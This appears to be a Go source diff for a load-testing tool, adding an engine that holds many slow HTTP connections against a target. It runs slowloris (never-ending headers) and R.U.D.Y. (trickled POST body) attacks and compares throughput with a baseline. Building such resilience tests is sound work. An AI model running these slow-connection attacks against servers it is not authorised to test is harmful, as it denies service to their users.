@@ -1,0 +1,280 @@
+package loadtest
+
+import (
+	"bytes"
+	"context"
+	"errors"
+	"fmt"
+	"io"
+	"net"
+	"sync"
+	"syscall"
+	"time"
+)
+
+// slowKind selects what a slow connection trickles.
+type slowKind int
+
+const (
+	// slowHeaders is slowloris: a request head that never ends, one field
+	// line per interval. RFC 9112 §2.1 ends a head with an empty line; we
+	// never send it.
+	slowHeaders slowKind = iota
+	// slowBody is R.U.D.Y.: a complete head announcing Content-Length:
+	// 1000000 (RFC 9112 §6.2), then one body byte per interval.
+	slowBody
+)
+
+// maxLifetimeSamples bounds the memory of lifetime samples.
+const maxLifetimeSamples = 1 << 20
+
+// endHow is how one slow connection ended.
+type endHow int
+
+const (
+	endAlive endHow = iota // still open when the attack stopped
+	end408                 // the server answered 408
+	endStatus              // the server answered another status
+	endClose               // orderly close (FIN) without a response
+	endReset               // connection reset
+)
+
+// slowEngine holds N slow connections open against the target.
+type slowEngine struct {
+	cfg  *Config
+	kind slowKind
+	n    int
+
+	mu        sync.Mutex
+	open      int
+	stats     SlowStats
+	lifetimes []time.Duration
+	lifeMax   time.Duration
+
+	rampDone chan struct{}
+}
+
+func newSlowEngine(c *Config, kind slowKind, n int) *slowEngine {
+	return &slowEngine{cfg: c, kind: kind, n: n, rampDone: make(chan struct{}),
+		stats: SlowStats{SlowConnsTarget: c.SlowConns}}
+}
+
+// run opens the connections gradually (SlowRampPerSec), keeps each slot
+// busy until ctx ends, reconnecting a cut slot at most SlowReconnects
+// times, and returns when every slot has stopped.
+func (e *slowEngine) run(ctx context.Context) {
+	var wg sync.WaitGroup
+	defer wg.Wait()
+	const tick = 10 * time.Millisecond
+	perTick := max(1, (e.cfg.SlowRampPerSec+99)/100)
+	t := time.NewTicker(tick)
+	defer t.Stop()
+	started := 0
+	for started < e.n {
+		for i := 0; i < perTick && started < e.n; i++ {
+			started++
+			wg.Add(1)
+			go func() {
+				defer wg.Done()
+				e.slot(ctx)
+			}()
+		}
+		if started == e.n {
+			break
+		}
+		select {
+		case <-ctx.Done():
+			close(e.rampDone)
+			return
+		case <-t.C:
+		}
+	}
+	close(e.rampDone)
+}
+
+// slot is one slow client, reconnecting (bounded) when the server cuts it.
+func (e *slowEngine) slot(ctx context.Context) {
+	for attempt := 0; attempt <= e.cfg.SlowReconnects && ctx.Err() == nil; attempt++ {
+		life, ok := e.conn(ctx)
+		if !ok || life < time.Second {
+			// Quick failures back off so a refusing server is not spun on.
+			select {
+			case <-ctx.Done():
+				return
+			case <-time.After(50 * time.Millisecond):
+			}
+		}
+	}
+}
+
+// conn runs one slow connection to its end and records how it ended. ok is
+// false when the dial failed.
+func (e *slowEngine) conn(ctx context.Context) (time.Duration, bool) {
+	d := net.Dialer{Timeout: e.cfg.Timeout}
+	nc, err := d.DialContext(ctx, "tcp", e.cfg.dialAddr())
+	if err != nil {
+		if ctx.Err() == nil {
+			e.mu.Lock()
+			e.stats.SlowDialErrors++
+			e.mu.Unlock()
+		}
+		return 0, false
+	}
+	defer nc.Close()
+	born := time.Now()
+	e.mu.Lock()
+	e.open++
+	e.stats.SlowConnects++
+	e.stats.SlowConnsMaxOpen = max(e.stats.SlowConnsMaxOpen, e.open)
+	e.mu.Unlock()
+	// Wake a blocked Read when the attack stops.
+	stop := context.AfterFunc(ctx, func() { nc.SetReadDeadline(time.Now()) })
+	defer stop()
+
+	how := e.drive(ctx, nc)
+	life := time.Since(born)
+	e.record(life, how)
+	return life, true
+}
+
+// drive writes the prologue and trickles until the server reacts or ctx
+// ends.
+func (e *slowEngine) drive(ctx context.Context, nc net.Conn) endHow {
+	path := e.cfg.Paths[0]
+	var head, drip string
+	switch e.kind {
+	case slowHeaders:
+		head = "GET " + path + " HTTP/1.1\r\nHost: " + e.cfg.Target.Host + "\r\nUser-Agent: ferrox-load/slowloris\r\n"
+		drip = "X-a: b\r\n"
+	case slowBody:
+		head = "POST " + path + " HTTP/1.1\r\nHost: " + e.cfg.Target.Host +
+			"\r\nUser-Agent: ferrox-load/slowbody\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000000\r\n\r\n"
+		drip = "a"
+	}
+	if _, err := io.WriteString(nc, head); err != nil {
+		return classify(ctx, err)
+	}
+	buf := make([]byte, 64)
+	for {
+		if ctx.Err() != nil {
+			return endAlive
+		}
+		nc.SetReadDeadline(time.Now().Add(e.cfg.SlowInterval))
+		n, err := nc.Read(buf)
+		if n > 0 {
+			return statusEnd(buf[:n])
+		}
+		if errors.Is(err, net.ErrClosed) || errors.Is(err, context.Canceled) {
+			return endAlive
+		}
+		var ne net.Error
+		if errors.As(err, &ne) && ne.Timeout() {
+			if ctx.Err() != nil {
+				return endAlive
+			}
+			if _, err := io.WriteString(nc, drip); err != nil {
+				return classify(ctx, err)
+			}
+			continue
+		}
+		return classify(ctx, err)
+	}
+}
+
+// statusEnd classifies the first bytes the server sent: a 408 or another
+// status line (RFC 9112 §4: "HTTP/1.1 SP 3DIGIT").
+func statusEnd(b []byte) endHow {
+	if len(b) >= 12 && bytes.HasPrefix(b, []byte("HTTP/1.")) && b[8] == ' ' {
+		if string(b[9:12]) == "408" {
+			return end408
+		}
+	}
+	return endStatus
+}
+
+// classify maps a read or write error to close or reset.
+func classify(ctx context.Context, err error) endHow {
+	switch {
+	case ctx.Err() != nil:
+		return endAlive
+	case errors.Is(err, syscall.ECONNRESET) || errors.Is(err, syscall.EPIPE):
+		return endReset
+	default:
+		return endClose
+	}
+}
+
+func (e *slowEngine) record(life time.Duration, how endHow) {
+	e.mu.Lock()
+	defer e.mu.Unlock()
+	e.open--
+	if len(e.lifetimes) < maxLifetimeSamples {
+		e.lifetimes = append(e.lifetimes, life)
+	}
+	e.lifeMax = max(e.lifeMax, life)
+	switch how {
+	case endAlive:
+		e.stats.SlowAliveAtEnd++
+	case end408:
+		e.stats.SlowCut408++
+	case endStatus:
+		e.stats.SlowCutOtherStatus++
+	case endClose:
+		e.stats.SlowCutClose++
+	case endReset:
+		e.stats.SlowCutReset++
+	}
+}
+
+// result summarises the engine after run returned.
+func (e *slowEngine) result() *SlowStats {
+	e.mu.Lock()
+	defer e.mu.Unlock()
+	s := e.stats
+	s.SlowLifetimeMedianMS = ms(median(e.lifetimes))
+	s.SlowLifetimeMaxMS = ms(e.lifeMax)
+	return &s
+}
+
+// slow runs a baseline phase of legitimate keep-alive traffic, then the same
+// traffic again while the slow engine holds its connections (opened
+// gradually before the attack phase starts).
+func slow(ctx context.Context, c *Config, res *Result, kind slowKind) {
+	legit := func(name string) Phase {
+		return c.attack(ctx, attackOpts{name: name, pacer: rate(c.Rate), duration: c.Duration,
+			keepAlive: true, closed: c.ClosedLoop})
+	}
+	base := legit("baseline")
+	res.Phases = append(res.Phases, base)
+	if ctx.Err() != nil {
+		return
+	}
+	n := c.connCap(c.SlowConns, res)
+	eng := newSlowEngine(c, kind, n)
+	engCtx, stopEng := context.WithCancel(ctx)
+	done := make(chan struct{})
+	go func() {
+		defer close(done)
+		eng.run(engCtx)
+	}()
+	select {
+	case <-eng.rampDone:
+	case <-ctx.Done():
+	}
+	// Let the last slow connections send their first bytes before measuring.
+	select {
+	case <-time.After(min(c.SlowInterval, 500*time.Millisecond)):
+	case <-ctx.Done():
+	}
+	atk := legit("attack")
+	stopEng()
+	<-done
+	atk.SlowStats = eng.result()
+	res.Phases = append(res.Phases, atk)
+	if base.Throughput > 0 {
+		res.ThroughputRatio = atk.Throughput / base.Throughput
+	}
+	if n < c.SlowConns {
+		res.Notes = append(res.Notes, fmt.Sprintf("only %d of %d slow connections attempted", n, c.SlowConns))
+	}
+}
